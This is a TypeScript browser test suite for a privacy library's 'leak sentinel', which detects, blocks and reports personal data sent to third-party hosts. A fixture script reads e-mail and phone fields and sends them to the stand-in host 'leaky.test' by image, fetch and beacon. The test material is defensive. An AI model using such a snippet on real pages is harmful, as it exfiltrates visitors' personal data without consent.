import { expect } from '@esm-bundle/chai';
import { sendKeys } from '@web/test-runner-commands';
import { collectedRecords, collectorMode, trackerHits } from '../helpers/browser.js';
import { loadPage, removePages, type Frame } from '../helpers/page.js';
import { until } from '../helpers/until.js';
import { laterRequestArrived } from '../gates/helpers.js';
import { useFreshPage } from '../helpers/fresh-page.js';
import { siteConfig } from '../fixtures/config.js';
import type { Incident, LeakReport, Sentinel } from '../../src/entries/sentinel.js';

/**
 * A vendor script with "automatic advanced matching": on submit it hashes the
 * e-mail the way Meta's pixel does and sends it to an undeclared host.
 */
const LEAKY_VENDOR = `<script>
  window.leak = async (how) => {
    const email = document.getElementById('email').value.trim().toLowerCase();
    const bytes = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(email));
    const hash = Array.from(new Uint8Array(bytes), (b) => b.toString(16).padStart(2, '0')).join('');
    const base = 'http://leaky.test:' + new URL(document.baseURI).port + '/tracker/';
    if (how === 'image') return new Promise((resolve) => { const image = new Image(); image.onload = image.onerror = resolve; image.src = base + 'tr.gif?ev=Lead&em=' + hash; });
    if (how === 'fetch') return fetch(base + 'collect', { method: 'POST', body: JSON.stringify({ user: btoa(email) }), mode: 'no-cors' }).catch(() => 'blocked');
    if (how === 'beacon') return navigator.sendBeacon(base + 'beacon', 'phone=' + encodeURIComponent(document.getElementById('phone').value));
  };
</script>`;
const FORM = '<form><input id="email" name="email" type="email"><input id="phone" name="phone" type="tel"></form>';

async function typeInto(win: Frame, id: string, text: string): Promise<void> {
  const frame = [...document.querySelectorAll('iframe')].find((element) => element.contentWindow === win)!;
  frame.focus();
  win.document.getElementById(id)!.focus();
  await sendKeys({ type: text });
}

/** The running sentinel of the page (the same module instance the head script loaded). */
async function sentinelOf(win: Frame): Promise<Sentinel> {
  const module = (await (win as unknown as { eval(code: string): Promise<typeof import('../../src/entries/sentinel-chunk.js')> }).eval(
    "import('/dist/samtycke-sentinel.js')",
  ));
  // The head script starts it once the chunk has arrived.
  return until(() => module.runningSentinel(), 'the sentinel to start');
}

function nextLeak(win: Frame): Promise<Incident> {
  return new Promise((resolve) => win.document.addEventListener('samtycke:leak', (event) => resolve((event as CustomEvent<Incident>).detail), { once: true }));
}

describe('leak sentinel (R39, R42, R43)', () => {
  useFreshPage();

  it('raises an incident within a second when a hashed e-mail leaves for a third party', async () => {
    const win = await loadPage({ config: siteConfig({ controller: 'Exempel AB' }), head: LEAKY_VENDOR, body: FORM });
    await typeInto(win, 'email', 'Leak.Test@Example.se ');
    const sentinel = await sentinelOf(win);
    await sentinel.track(win.document.getElementById('email') as HTMLInputElement);

    const incidentRaised = nextLeak(win);
    const sentAt = Date.now();
    await (win.leak as (how: string) => Promise<void>)('image');
    const incident = await incidentRaised;
    expect(Date.now() - sentAt).to.be.lessThan(1000);
    expect(incident.recipients).to.deep.equal(['leaky.test']);
    expect(incident.evidence).to.include({ field: 'email', encoding: 'normalised+sha256', host: 'leaky.test', kind: 'image' });
    expect(incident.evidence.url).not.to.contain('?');
    expect(incident.unintelligible).to.equal(false);
    expect(incident.unintelligibleReason).to.match(/hash/);
    expect(incident.contactPoint).to.equal('Exempel AB');
    expect(Date.parse(incident.deadlines.gdpr) - Date.parse(incident.detectedAt)).to.equal(72 * 3600 * 1000);
    expect(incident.deadlines.ptsInitial).to.equal(undefined);
    expect(sentinel.incidents()).to.have.length(1);
    // Report mode: the request went out, and the incident says so.
    expect((await trackerHits('leaky.test')).length, JSON.stringify(await trackerHits())).to.equal(1);
    expect(incident.measures.taken[0]).to.match(/not blocked/);
  });

  it('recognises base64 in a fetch body and a phone number in a beacon', async () => {
    const win = await loadPage({ config: siteConfig(), head: LEAKY_VENDOR, body: FORM });
    await typeInto(win, 'email', 'anna.svensson@example.se');
    await typeInto(win, 'phone', '070-123 45 67');
    const sentinel = await sentinelOf(win);
    await sentinel.track(win.document.getElementById('email') as HTMLInputElement);
    await sentinel.track(win.document.getElementById('phone') as HTMLInputElement);

    let raised = nextLeak(win);
    await (win.leak as (how: string) => Promise<void>)('fetch');
    expect((await raised).evidence).to.include({ field: 'email', kind: 'fetch' });
    expect((await raised).evidence.encoding).to.match(/base64/);

    raised = nextLeak(win);
    await (win.leak as (how: string) => Promise<void>)('beacon');
    expect((await raised).evidence).to.include({ field: 'phone', kind: 'beacon' });
  });

  it('in block mode stops the request and prepares the PTS deadlines for a telecom operator', async () => {
    const config = { ...siteConfig(), sentinel: { mode: 'block', operatorType: 'ecs' } };
    const win = await loadPage({ config, head: LEAKY_VENDOR, body: FORM });
    await typeInto(win, 'email', 'Leak.Test@Example.se');
    const sentinel = await sentinelOf(win);
    await sentinel.track(win.document.getElementById('email') as HTMLInputElement);

    const raised = nextLeak(win);
    // The blocked image never loads, so its promise never settles: do not wait for it.
    void (win.leak as (how: string) => Promise<void>)('image');
    const incident = await raised;
    expect(incident.measures.taken[0]).to.match(/blocked/);
    expect(Date.parse(incident.deadlines.ptsInitial!) - Date.parse(incident.detectedAt)).to.equal(24 * 3600 * 1000);
    expect(await (win.leak as (how: string) => Promise<string>)('fetch')).to.equal('blocked');
    await laterRequestArrived(win);
    // The beacon of the previous test may land late: only this test's requests count.
    const hits = (await trackerHits('leaky.test')).filter((hit) => hit.path !== '/tracker/beacon');
    expect(hits, JSON.stringify(hits)).to.have.length(0);
  });

  it('ignores first-party requests and fields without contact data', async () => {
    const win = await loadPage({ config: siteConfig(), body: '<input id="search" name="q" type="search">' + FORM });
    await typeInto(win, 'search', 'espresso beans');
    const sentinel = await sentinelOf(win);
    await typeInto(win, 'email', 'someone@example.se');
    await sentinel.track(win.document.getElementById('email') as HTMLInputElement);
    await win.fetch(`/tracker/same-site?em=${encodeURIComponent('someone@example.se')}`);
    await win.fetch(`http://leaky.test:${location.port}/tracker/search?q=espresso%20beans`);
    // Positive control: a later stylesheet carrying the e-mail is only seen once it has loaded, through Resource
    // Timing, the way a late report about the two requests above would come; it must be the one incident.
    const raised = nextLeak(win);
    const style = win.document.createElement('link');
    style.rel = 'stylesheet';
    style.href = `http://leaky.test:${location.port}/tracker/later.css?em=${encodeURIComponent('someone@example.se')}`;
    win.document.head.append(style);
    expect((await raised).evidence).to.include({ field: 'email', kind: 'resource', host: 'leaky.test' });
    expect(sentinel.incidents().map((incident) => incident.evidence.url), JSON.stringify(sentinel.incidents().map((incident) => incident.evidence))).to.deep.equal([
      `http://leaky.test:${location.port}/tracker/later.css`,
    ]);
  });
});

describe('leak reports to the collector (R42)', () => {
  useFreshPage();
  const withCollector = (mode: string) => ({ ...siteConfig({ controller: 'Exempel AB' }), collector: { endpoint: '/fake-collector/v1/proofs' }, sentinel: { mode } });
  const reportOf = async (id: string) => (await until(async () => (await collectedRecords()).find((entry) => entry.recordId === id), `report ${id} at the collector`)).record as unknown as LeakReport;
  const queued = (win: Frame): Array<{ record: LeakReport; attempts: number }> => JSON.parse(win.localStorage.getItem('samtycke:leaks') ?? '[]');

  it('sends each detection to leaks next to the proof endpoint, with what the incident needs and nothing of the value', async () => {
    const win = await loadPage({ config: withCollector('report'), head: LEAKY_VENDOR, body: FORM });
    await typeInto(win, 'email', 'Leak.Test@Example.se ');
    const sentinel = await sentinelOf(win);
    await sentinel.track(win.document.getElementById('email') as HTMLInputElement);
    const raised = nextLeak(win);
    await (win.leak as (how: string) => Promise<void>)('image');
    const incident = await raised;

    const report = await reportOf(incident.id);
    const page = new URL(location.href);
    expect(report).to.deep.equal({
      type: 'leak',
      recordId: incident.id,
      consentId: null,
      detectedAt: incident.detectedAt,
      fieldKind: 'email',
      field: 'email',
      form: 'normalised',
      encoding: 'sha256',
      host: 'leaky.test',
      service: null,
      category: null,
      requestKind: 'image',
      blocked: false,
      decided: false,
      granted: null,
      page: page.origin + page.pathname,
      operatorType: 'other',
      libraryVersion: report.libraryVersion,
    });
    expect(JSON.stringify(report).toLowerCase()).not.to.match(/leak\.test|example\.se/);
    await until(() => win.localStorage.getItem('samtycke:leaks') === null, 'the acknowledged report to leave the queue');
    // The proof API lists proof records only.
    expect((win.samtycke as { proof?: { pending(): unknown[] } }).proof!.pending()).to.deep.equal([]);
  });

  it('keeps a report the collector could not take and sends it from a later page', async () => {
    await collectorMode('down');
    const first = await loadPage({ config: withCollector('block'), head: LEAKY_VENDOR, body: FORM });
    await typeInto(first, 'email', 'kept.report@example.se');
    const sentinel = await sentinelOf(first);
    await sentinel.track(first.document.getElementById('email') as HTMLInputElement);
    const raised = nextLeak(first);
    void (first.leak as (how: string) => Promise<void>)('image');
    const incident = await raised;
    // Stored first, and one attempt failed: it waits, with its backoff.
    const entry = await until(() => queued(first).find((item) => item.attempts > 0), 'a failed attempt');
    expect(entry.record).to.include({ recordId: incident.id, blocked: true, requestKind: 'image' });
    expect(await collectedRecords()).to.deep.equal([]);

    await collectorMode('up');
    // Its backoff is over by the time the visitor opens another page.
    first.localStorage.setItem('samtycke:leaks', JSON.stringify(queued(first).map((item) => ({ ...item, due: 0 }))));
    removePages();
    const later = await loadPage({ config: withCollector('block'), body: FORM });
    // The next page's sentinel (loaded on focus) finds it and the sender delivers it once its backoff is over.
    await typeInto(later, 'email', 'x');
    const report = await reportOf(incident.id);
    expect(report.blocked).to.equal(true);
    await until(() => later.localStorage.getItem('samtycke:leaks') === null, 'the queue to empty');
  });
});
